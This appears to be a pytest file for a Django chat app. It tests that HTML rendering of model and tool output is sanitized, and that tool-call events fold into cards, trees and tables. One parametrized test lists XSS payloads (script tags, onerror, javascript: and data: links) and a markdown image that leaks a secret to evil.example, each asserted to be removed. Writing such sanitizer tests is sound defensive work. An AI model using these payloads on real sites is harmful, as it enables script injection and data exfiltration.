"""What a model or a tool says becomes HTML that does no harm."""

from uuid import uuid4

import pytest
from django.template.loader import render_to_string

from chat.events import Event
from chat.folding import TurnView
from chat.parts import Ending, Found, Group, Words
from chat.rendering import changes_html, markdown
from chat.value_tree import one_line, value_tree


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![x](https://evil.example/?q=secret)", "<img"),
        ("[x](javascript:alert(1))", 'javascript:alert(1)"'),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", 'href="data:'),
        ("<a href='x' onclick='y'>z</a>", "<a"),
        ("<style>*{}</style>", "<style"),
    ],
)
def test_markdown_can_do_no_harm(text, gone):
    assert gone not in markdown(text)


def test_markdown_keeps_what_answers_are_made_of():
    html = markdown("# T\n\n- **a** `b`\n\n| x |\n|---|\n| 1 |\n\n[l](https://example.org)")
    for part in ("<h1>", "<strong>a</strong>", "<code>b</code>", "<table>", "nofollow"):
        assert part in html


def test_a_value_becomes_a_tree_with_its_text_escaped():
    html = value_tree({"a": ["<b>", 1, None, True], "empty": {}})
    assert "&lt;b&gt;" in html
    assert "<b>" not in html
    for part in ("2 fields", "4 items", "null", "true", "empty object"):
        assert part in html


def test_a_deep_or_long_value_is_cut_instead_of_growing_without_end():
    deep: list = []
    for _ in range(500):
        deep = [deep]
    assert len(value_tree(deep)) < 5_000
    assert "… 800 more" in value_tree(list(range(1_000)))


def told(*events: tuple[str, dict]) -> TurnView:
    view = TurnView(uuid4())
    for number, (name, data) in enumerate(events, start=1):
        view.apply(Event(number, name, data))
    return view


def test_events_fold_into_parts_in_order():
    view = told(
        ("turn.started", {"model": "m"}),
        ("tools.found", {"query": "q", "tools": [{"name": "a", "injected": True}]}),
        ("text.delta", {"text": "Let "}),
        ("text.delta", {"text": "me."}),
        ("tool.call", {"id": "1", "name": "a", "arguments": {"x": 1}}),
        ("tool.progress", {"id": "1", "message": "Going", "step": 1, "run": "r"}),
        ("tool.progress", {"id": "1", "message": "Gone", "step": 1, "run": "r"}),
        ("tool.result", {"id": "1", "status": "succeeded", "output": 2, "duration_ms": 3}),
        ("text.delta", {"text": "Two."}),
        ("turn.completed", {"status": "completed", "usage": {}}),
    )
    found, first, group, last = view.parts
    assert isinstance(found, Found)
    assert isinstance(group, Group)
    [card] = group.cards
    assert isinstance(first, Words)
    assert isinstance(last, Words)
    assert (first.text, first.busy, last.text, last.busy) == ("Let me.", False, "Two.", False)
    assert card.arguments == {"x": 1}
    assert [step["message"] for step in card.steps] == ["Gone"]
    assert (card.status, card.output, card.duration_ms, card.run_id) == ("succeeded", 2, 3, "r")
    assert view.over


def test_a_stop_shows_what_was_left_running():
    view = told(
        ("tool.call", {"id": "1", "name": "a", "arguments": "{"}),
        ("turn.completed", {"status": "stopped", "usage": {}}),
    )
    group, ending = view.parts
    assert isinstance(group, Group)
    [card] = group.cards
    assert isinstance(ending, Ending)
    assert card.status == "stopped"
    assert card.arguments == "{", "arguments that are no JSON are shown as they came"


def test_a_card_under_a_readers_eyes_keeps_its_frame():
    view = told(("tool.call", {"id": "1", "name": "a", "arguments": {}}))
    result = {"id": "1", "status": "succeeded", "output": 2, "duration_ms": 3}
    html = changes_html(view, view.apply(Event(2, "tool.result", result)))
    assert '<details class="tool-card' not in html
    assert f'id="{view.parts[0].cards[0].id}-state" hx-swap-oob="true"' in html


def test_the_head_of_a_running_call_tells_the_last_of_its_progress():
    view = told(("tool.call", {"id": "1", "name": "a", "arguments": {}}))
    view.apply(Event(2, "tool.progress", {"id": "1", "message": "1 of 6"}))
    html = changes_html(
        view, view.apply(Event(3, "tool.progress", {"id": "1", "message": "2 of 6"}))
    )
    head, _, _ = html.partition("-steps")
    assert "2 of 6" in head
    assert "1 of 6" not in head


def test_an_error_of_the_turn_says_what_happened_and_what_to_do():
    view = told()
    error = {"code": "x", "message": "It broke.", "hint": "Mend it.", "extra": {}}
    html = changes_html(view, view.apply(Event(1, "turn.failed", {"error": error})))
    assert "It broke." in html
    assert "Mend it." in html


def test_tools_found_are_told_by_the_parts_that_count_and_lead_to_the_workbench():
    parts = {"text": 1.0, "coverage": 0.157, "clause": 0.0, "limitations": -0.0}
    tool = {"name": "a", "score": 0.6, "parts": parts, "injected": True}
    view = told(("tools.found", {"query": "a & b", "tools": [tool]}))
    page = render_to_string("chat/_found.html", {"part": view.parts[0]})
    assert "text 1.00" in page and "coverage 0.16" in page
    assert "clause" not in page and "limitations" not in page
    assert 'href="/search/?message=a%20%26%20b"' in page


def test_like_objects_become_a_table_with_the_tree_behind_it():
    rows = [{"city": f"<{place}>", "degrees": place} for place in range(60)]
    html = value_tree(rows)
    assert '<th scope="col">city</th>' in html
    assert html.count("<tr>") == 51
    assert "… 10 more rows" in html
    assert "Show as tree" in html
    assert "<0>" not in html


@pytest.mark.parametrize("value", [[{"a": 1}], [{"a": 1}, 2], [{"a": 1}, {}], [{}, {}]])
def test_a_list_of_unlike_things_stays_a_tree(value):
    assert "<table>" not in value_tree(value)


def test_a_long_text_stands_there_shortened():
    html = value_tree("word " * 200)
    assert "show all 1,000 characters" in html


@pytest.mark.parametrize(
    ("value", "line"),
    [
        ({"expression": "17*23"}, "17*23"),
        ({"a": 1, "b": [1, 2]}, "a: 1, b: 2 items"),
        ([{"a": 1}], "1 item"),
        (None, ""),
        ("x" * 200, "x" * 89 + "…"),
    ],
)
def test_a_value_in_a_line(value, line):
    assert one_line(value) == line
